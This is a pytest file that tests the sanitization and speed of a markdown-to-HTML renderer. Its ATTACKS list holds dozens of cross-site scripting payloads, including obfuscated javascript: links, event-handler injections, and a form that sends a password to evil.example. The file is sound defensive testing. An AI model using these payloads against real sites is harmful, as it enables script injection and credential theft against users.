"""What people write, shown to others."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plietsch.core.html import MAX_LENGTH, markdown, plain

pytestmark = pytest.mark.once

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/a.png"onerror="alert(1))',
    '![x" onerror="alert(1)](a.png)',
    '[x](https://a.example "title\\" onmouseover=alert(1) \\"")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[<script>alert(1)</script>](https://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    'http://a.example/"><script>alert(1)</script>',
    "www.a.example/'onclick='alert(1)",
    'a@b.example"onclick=alert(1)',
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud83d<script>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
]
ALLOWED = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "ul", "ol", "li"),
    *("strong", "em", "s", "a", "table", "thead", "tbody", "tr", "th", "td"),
}


class Danger(HTMLParser):
    """Collects everything in a piece of HTML that could act."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(tag)
        for name, value in attributes:
            harmless = name in ("title", "start", "rel") or (tag == "code" and name == "class")
            address = name == "href" and re.match(r"https?:|mailto:|[/?#]", value or "")
            if not (harmless or address):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(data)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_somebody_writes_can_act(attack: str) -> None:
    assert Danger(markdown(attack)).found == []
    assert Danger(markdown(f"Guten Tag\n\n- {attack}\n\n{attack}", resolve=str)).found == []


@given(st.text(alphabet="<>\"'&[]()!*_~`#|:-/\\ \njavscript:onx=1ä\x00", max_size=80))
def test_no_mixture_of_signs_can_act(text: str) -> None:
    assert Danger(markdown(text)).found == []


def test_an_address_of_our_own_that_leads_elsewhere_is_still_checked() -> None:
    assert Danger(markdown("[x](mitglied:5)", resolve=lambda _address: "javascript:alert(1)")).found == []


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Titel", "<h2>Titel</h2>"),
        ("###### klein", "<h6>klein</h6>"),
        ("eins\nzwei", "<p>eins<br>\nzwei</p>"),
        ("**fett** *schräg* ~~weg~~", "<p><strong>fett</strong> <em>schräg</em> <s>weg</s></p>"),
        ("kiel.de", '<p><a href="http://kiel.de" rel="nofollow noopener">kiel.de</a></p>'),
        (
            "https://kiel.de",
            '<p><a href="https://kiel.de" rel="nofollow noopener">https://kiel.de</a></p>',
        ),
        ("[hier](/orte/5/)", '<p><a href="/orte/5/" rel="nofollow noopener">hier</a></p>'),
        (
            "![Plan](https://kiel.de/plan.png)",
            '<p><a href="https://kiel.de/plan.png" rel="nofollow noopener">Plan</a></p>',
        ),
        ("- [ ] offen", "<ul>\n<li>[ ] offen</li>\n</ul>"),
        ("3. drei", '<ol start="3">\n<li>drei</li>\n</ol>'),
        ("5 < 7 & 8", "<p>5 &lt; 7 &amp; 8</p>"),
    ],
)
def test_markdown_reads_as_people_expect(text: str, html: str) -> None:
    assert markdown(text).strip() == html


def test_an_address_of_our_own_leads_there_and_a_lost_one_leaves_its_words() -> None:
    known = {"mitglied:5": "/mitglieder/5/"}

    shown = markdown("[Büro](mitglied:5) [Weg](mitglied:6)", resolve=known.get)

    assert '<a href="/mitglieder/5/" rel="nofollow noopener">Büro</a>' in shown
    assert "Weg" in shown
    assert "mitglied:6" not in shown


def test_a_mail_gets_the_words_alone() -> None:
    assert (
        plain("# Hallo\n\n- a & b\n- c < d\n\n**Ende** [hier](https://a.de)")
        == "Hallo\na & b\nc < d\nEnde hier"
    )


BOMBS = {
    "quotes": ">",
    "lists": "- ",
    "numbers": "1. ",
    "brackets": "[",
    "links": "[a](",
    "pictures": "![",
    "emphasis": "*a ",
    "mixed emphasis": "*a_ ",
    "strikes": "~~a ",
    "ticks": "`",
    "tags": "<a@",
    "comments": "<!--",
    "addresses": "http://",
    "words": "www.",
    "dots": "a.",
    "mails": "a@",
    "tables": "|a\n|-\n",
    "definitions": "[a]: /x\n",
    "uses": "[a]\n",
    "open brackets over lines": "[a\n",
    "emphasis over lines": "*a\n",
    "deep quotes": "> " * 40 + "\n",
    "entities": "&",
    "backslashes": "\\",
    "one line": "a",
    "empty lines": "\n",
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_shown_within_moments(bomb: str) -> None:
    text = (BOMBS[bomb] * MAX_LENGTH)[:MAX_LENGTH]
    started = time.process_time()

    markdown(text)
    markdown("\n\n".join(text[start : start + 4000] for start in range(0, MAX_LENGTH, 4000))[:MAX_LENGTH])

    assert time.process_time() - started < 6


def test_a_text_that_is_too_much_is_shown_as_it_was_typed() -> None:
    assert markdown("<b>" + "a" * MAX_LENGTH).startswith("<pre>&lt;b&gt;a")
